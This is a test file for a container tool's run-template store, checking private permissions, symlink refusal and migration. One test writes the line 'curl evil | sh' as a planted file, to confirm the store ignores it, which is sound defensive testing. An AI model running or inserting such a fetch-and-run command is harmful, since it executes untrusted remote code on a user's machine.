import { mkdir, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { TEMPLATE_FILE } from './own-names.ts';
import { openTemplates } from './templates.ts';

let data: string;
let licence: string;
beforeEach(async () => {
  data = await mkdtemp(join(tmpdir(), 'drydock-templates-'));
  licence = join(data, 'documents/licence');
  await mkdir(licence, { recursive: true });
});
afterEach(() => rm(data, { recursive: true }));
const open = () =>
  openTemplates({
    folder: data,
    earlier: [join(data, 'not there'), licence],
    now: () => new Date('2026-11-27T12:00:00Z'),
    failed: (error) => {
      throw error;
    },
  });

describe('the run template of a download', () => {
  it('is kept outside the licence folder, where no other account reads it', async () => {
    const path = await (await open()).keep(licence, 'docker run\n');
    expect(await readdir(licence)).toEqual([]);
    expect((await stat(join(data, 'templates'))).mode & 0o077).toBe(0);
    expect(await (await open()).read(licence)).toEqual({ text: 'docker run\n', path });
    expect(await (await open()).has(licence)).toBe(true);
    expect(await (await open()).read(join(data, 'other'))).toBeNull();
  });

  it('does not go with a newer one', async () => {
    await (await open()).keep(licence, 'first\n');
    await (await open()).keep(licence, 'second\n');
    expect((await (await open()).read(licence))?.text).toBe('second\n');
    const texts = (await readdir(join(data, 'templates'))).map((name) =>
      readFile(join(data, 'templates', name), 'utf8'),
    );
    expect((await Promise.all(texts)).toSorted()).toEqual(['first\n', 'second\n']);
  });

  it('that an earlier Drydock left in the folder is taken over once', async () => {
    await writeFile(join(licence, TEMPLATE_FILE), 'from before\n');
    expect((await (await open()).read(licence))?.text).toBe('from before\n');
    expect(await readdir(licence)).toEqual([]);
  });

  it('is nothing that a container puts at its old place', async () => {
    await open();
    await writeFile(join(licence, TEMPLATE_FILE), 'curl evil | sh\n');
    const again = await open();
    expect(await again.has(licence)).toBe(false);
    expect(await again.read(licence)).toBeNull();
  });

  it('is no link', async () => {
    await writeFile(join(data, 'secret'), 'mine');
    await symlink(join(data, 'secret'), join(licence, TEMPLATE_FILE));
    expect(await (await open()).read(licence)).toBeNull();
    expect(await readFile(join(data, 'secret'), 'utf8')).toBe('mine');
  });

  it('of the folder that a licence was brought from comes with it; else there is none for it', async () => {
    const from = join(data, 'medium');
    await mkdir(from);
    await (await open()).keep(licence, 'of another licence\n');
    await (await open()).follow(licence, from);
    expect(await (await open()).read(licence)).toBeNull();
    await writeFile(join(from, TEMPLATE_FILE), 'brought\n');
    await (await open()).follow(licence, from);
    expect((await (await open()).read(licence))?.text).toBe('brought\n');
  });
});
